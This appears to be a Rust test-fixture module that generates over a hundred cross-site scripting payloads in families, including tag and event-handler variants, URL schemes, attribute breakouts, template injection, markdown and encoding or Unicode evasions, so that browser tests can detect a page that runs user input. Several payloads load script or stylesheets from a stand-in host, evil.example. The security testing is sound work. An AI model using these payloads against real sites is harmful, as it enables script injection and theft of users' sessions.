//! The XSS payloads, built from families rather than typed out one by one,
//! so each family covers its variations (case, quoting, encoding, tag,
//! event) systematically.
//!
//! Every payload that would run code does one of two things: `alert(1)`
//! (WebDriver sees an open alert) or sets `window.__xss` (the browser test
//! reads it back). Either way, a page that ran one is caught.

/// Template expressions that would print this number if evaluated
/// (7 × 7777), so finding it on a page means a template ran user text.
pub const EVALUATED: &str = "54439";

/// One payload and the family it comes from (for failure messages).
#[derive(Debug, Clone)]
pub struct Payload {
    /// e.g. `event-handler`.
    pub family: &'static str,
    /// The text a user would type.
    pub text: String,
}

/// Every payload, at least 100.
pub fn all() -> Vec<Payload> {
    let mut out = Vec::new();
    let families: [(&str, Vec<String>); 10] = [
        ("script-tag", script_tags()),
        ("event-handler", event_handlers()),
        ("svg-math", svg_and_math()),
        ("url-scheme", url_schemes()),
        ("attribute-breakout", attribute_breakouts()),
        ("template", template_injection()),
        ("markdown", markdown()),
        ("entities", entities()),
        ("unicode", unicode()),
        ("markup-context", markup_contexts()),
    ];
    for (family, texts) in families {
        for (i, text) in texts.into_iter().enumerate() {
            // Alternate the two detectable effects across each family.
            let js = if i % 2 == 0 {
                "alert(1)"
            } else {
                "window.__xss=1"
            };
            out.push(Payload {
                family,
                text: text.replace("{js}", js),
            });
        }
    }
    out
}

fn script_tags() -> Vec<String> {
    [
        "<script>{js}</script>",
        "<SCRIPT>{js}</SCRIPT>",
        "<ScRiPt >{js}</sCrIpT >",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<script/x>{js}</script>",
        "<script\n>{js}</script\n>",
        "<scr<script>ipt>{js}</scr</script>ipt>",
        "<script>/*</script><script>*/{js}</script>",
        "<<script>{js}//<</script>",
        "<script type=module>{js}</script>",
        "<script>document.write('<img src=x onerror={js}>')</script>",
        "<!--<script>{js}</script>-->",
    ]
    .map(String::from)
    .to_vec()
}

fn event_handlers() -> Vec<String> {
    let tags = [
        "img src=x",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "audio src=x",
        "marquee",
        "select autofocus",
        "textarea autofocus",
        "div tabindex=1 autofocus",
        "a href=#",
        "button autofocus",
        "object data=x",
        "img src=\"\" loading=lazy",
    ];
    let events = [
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onstart",
        "onanimationstart",
        "onpointerenter",
        "ONERROR",
        "onfocusin",
    ];
    // Every tag once, each with a different event and quoting style.
    tags.iter()
        .enumerate()
        .map(|(i, tag)| {
            let event = events[i % events.len()];
            match i % 3 {
                0 => format!("<{tag} {event}={{js}}>"),
                1 => format!("<{tag} {event}=\"{{js}}\">"),
                _ => format!("<{tag} {event}='{{js}}'>x"),
            }
        })
        .collect()
}

fn svg_and_math() -> Vec<String> {
    [
        "<svg onload={js}>",
        "<svg/onload={js}>",
        "<svg><script>{js}</script></svg>",
        "<svg><a xlink:href=\"javascript:{js}\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin={js} attributeName=x dur=1s>",
        "<svg><set attributeName=href to=\"javascript:{js}\">",
        "<svg><foreignObject><iframe srcdoc=\"<script>{js}</script>\"></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
        "<math href=\"javascript:{js}\">x</math>",
        "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload={js}>#x\"/></svg>",
        "<math><maction actiontype=statusline xlink:href=\"javascript:{js}\">x</maction></math>",
    ]
    .map(String::from)
    .to_vec()
}

fn url_schemes() -> Vec<String> {
    [
        "<a href=\"javascript:{js}\">click</a>",
        "<a href=\"JaVaScRiPt:{js}\">click</a>",
        "<a href=\"java&#x09;script:{js}\">click</a>",
        "<a href=\"&#106;avascript:{js}\">click</a>",
        "<a href=\"\n javascript:{js}\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<iframe src=\"data:text/html,<script>{js}</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"javascript:{js}\">",
        "<form action=\"javascript:{js}\"><button>go</button></form>",
        "<button formaction=\"javascript:{js}\">go</button>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">",
        "<base href=\"javascript:{js}//\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<img srcset=\"x.png 1x, javascript:{js} 2x\">",
        "<iframe src=\"javascript:{js}\"></iframe>",
    ]
    .map(String::from)
    .to_vec()
}

fn attribute_breakouts() -> Vec<String> {
    [
        "\" onmouseover=\"{js}",
        "' onfocus='{js}' autofocus='",
        "\" autofocus onfocus={js} x=\"",
        "\"><img src=x onerror={js}>",
        "'><svg onload={js}>",
        "` onclick={js} `",
        "\"/><script>{js}</script>",
        "x\" hx-get=\"https://evil.example/\" hx-trigger=\"load",
        "\" hx-on:click=\"{js}",
        "x' style='background:url(javascript:{js})",
        "</textarea><img src=x onerror={js}>",
        "</title><script>{js}</script>",
        "</option></select><img src=x onerror={js}>",
        "</q><script>{js}</script>",
        "</pre><script>{js}</script>",
        "</code></pre><img src=x onerror={js}>",
    ]
    .map(String::from)
    .to_vec()
}

fn template_injection() -> Vec<String> {
    [
        "{{ 7*7777 }}",
        "{{7*7777}}",
        "{% for x in [1] %}{{ 7*7777 }}{% endfor %}",
        "{{ csrf }}{{ self }}{{ config }}",
        "${7*7777}",
        "#{7*7777}",
        "<%= 7*7777 %>",
        "{{constructor.constructor('{js}')()}}",
        "{% include \"layout.html\" %}",
        "{{ '<script>{js}</script>' | safe }}",
        "{% raw %}<script>{js}</script>{% endraw %}",
        "{# {{ 7*7777 }} #}",
    ]
    .map(String::from)
    .to_vec()
}

fn markdown() -> Vec<String> {
    [
        "[click me](javascript:{js})",
        "![logo](javascript:{js})",
        "[click](JAVASCRIPT:{js})",
        "[click](javascript&#58;{js})",
        "<javascript:{js}>",
        "[click]( javascript:{js} )",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](x\" onerror=\"{js})",
        "[x](https://example.com \"t\\\" onmouseover=\\\"{js}\")",
        "[ref link][r]\n\n[r]: javascript:{js}",
        "Inline <img src=x onerror={js}> in a sentence.",
        "`<script>{js}</script>` in code",
        "```html\n<script>{js}</script>\n```",
        "# <script>{js}</script>",
        "## Customer\n<script>{js}</script>",
        "| a | <img src=x onerror={js}> |\n|---|---|\n| <svg onload={js}> | b |",
        "[click](vbscript:msgbox(1))",
        "<details open ontoggle={js}><summary>x</summary></details>",
    ]
    .map(String::from)
    .to_vec()
}

fn entities() -> Vec<String> {
    [
        "&lt;script&gt;{js}&lt;/script&gt;",
        "&#60;script&#62;{js}&#60;/script&#62;",
        "&#x3C;img src=x onerror={js}&#x3E;",
        "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
        "%3Cscript%3E{js}%3C/script%3E",
        "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
        "&quot; onmouseover=&quot;{js}",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:{js}\">x</a>",
        "&NewLine;<script>{js}</script>",
    ]
    .map(String::from)
    .to_vec()
}

fn unicode() -> Vec<String> {
    [
        "\u{FF1C}script\u{FF1E}{js}\u{FF1C}/script\u{FF1E}",
        "\u{202E}<script>{js}</script>",
        "<scr\u{200B}ipt>{js}</script>",
        "<img src=x onerror=\u{2028}{js}>",
        "<\u{0455}cript>{js}</\u{0455}cript>",
        "\u{FEFF}<script>{js}</script>",
        "\u{FF02} onmouseover=\u{FF02}{js}",
        "<script\u{0338}>{js}</script>",
        "<a href=\"\u{2000}javascript:{js}\">x</a>",
        "\u{1F600}<svg onload={js}>\u{1F600}",
    ]
    .map(String::from)
    .to_vec()
}

fn markup_contexts() -> Vec<String> {
    [
        "<style>body{display:none}</style>",
        "<xmp><script>{js}</script></xmp>",
        "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
        "<![CDATA[<script>{js}</script>]]>",
        "<isindex action=javascript:{js} type=submit>",
        "<template><script>{js}</script></template>",
        "<div style=\"background:url(javascript:{js})\">x</div>",
        "<table background=\"javascript:{js}\"><tr><td>x</td></tr></table>",
        "<iframe srcdoc=\"&lt;script&gt;{js}&lt;/script&gt;\"></iframe>",
        "<img src=\"x` `<script>{js}</script>\"` `>",
        "<plaintext><script>{js}</script>",
        "<div hx-get=\"/logout\" hx-trigger=\"load\">x</div>",
    ]
    .map(String::from)
    .to_vec()
}
